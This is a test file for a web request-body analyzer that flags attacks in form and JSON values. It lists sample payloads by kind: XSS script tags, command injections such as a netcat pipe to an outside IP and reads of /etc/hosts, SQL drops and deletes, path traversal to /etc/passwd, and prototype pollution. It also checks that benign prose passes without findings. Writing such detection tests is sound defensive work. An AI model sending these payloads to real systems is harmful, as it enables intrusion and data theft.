import { describe, expect, it } from 'vitest'
import { analyzeBody, kindsOf } from '../analyze.js'

const FORM = 'application/x-www-form-urlencoded'
/** Some KiB of prose in which nothing repeats, with the marks that prose has. */
const PROSE = Array.from(
  { length: 300 },
  (_, index) =>
    `${['Kim', 'the ship', "it's", 'a boat (blue);', 'and north,'][index % 5]} ${(index * 37) % 1009}${index % 9 === 0 ? '.\n' : ''}`
).join(' ')

describe('rules for long values', () => {
  it.each([
    ['xss', '<script src=//x.example/a.js></script>'],
    ['xss', '<p onmouseover=go(1)>'],
    ['xss', '<a href="javascript:alert(1)">'],
    ['command-injection', '; cat /etc/hosts'],
    ['command-injection', '| nc 192.0.2.1 4444'],
    ['command-injection', '$(whoami)'],
    ['command-injection', '; ls -la'],
    ['sql-injection', "'; DROP TABLE users--"],
    ['sql-injection', '1; DELETE FROM users'],
    ['sql-injection', "admin' --"],
    ['path-traversal', '../../../../../x'],
    ['path-traversal', 'file:///etc/passwd'],
    ['php-injection', '<?php a(); ?>'],
    ['code-injection', '__proto__.admin']
  ])('find %s at the end of prose: %s', (kind, attack) => {
    expect(kindsOf(analyzeBody(FORM, `q=${encodeURIComponent(`${PROSE} ${attack}`)}&page=2`))).toContain(kind)
    expect(kindsOf(analyzeBody('application/json', JSON.stringify({ q: `${PROSE.slice(0, 900)} ${attack}` })))).toContain(kind)
  })

  it.each([
    'I wrote a script; cat pictures are next (see ../notes).',
    'Use <b>bold</b> or <a href="https://example.com/">a link</a>, <img src="a.png"> too.',
    "The 'drop' of the table; it's on the 2nd floor -- or so they say",
    'JavaScript: the good parts; PHP: the others. Passwords go elsewhere',
    'constructor and prototype; a | b; this && that; `code`'
  ])('let prose about such things pass: %s', (sentence) => {
    expect(analyzeBody(FORM, `q=${encodeURIComponent(`${PROSE} ${sentence} ${PROSE}`)}`).findings).toEqual([])
    expect(analyzeBody('application/json', JSON.stringify({ q: `${PROSE.slice(0, 900)} ${sentence}` })).findings).toEqual([])
  })
})
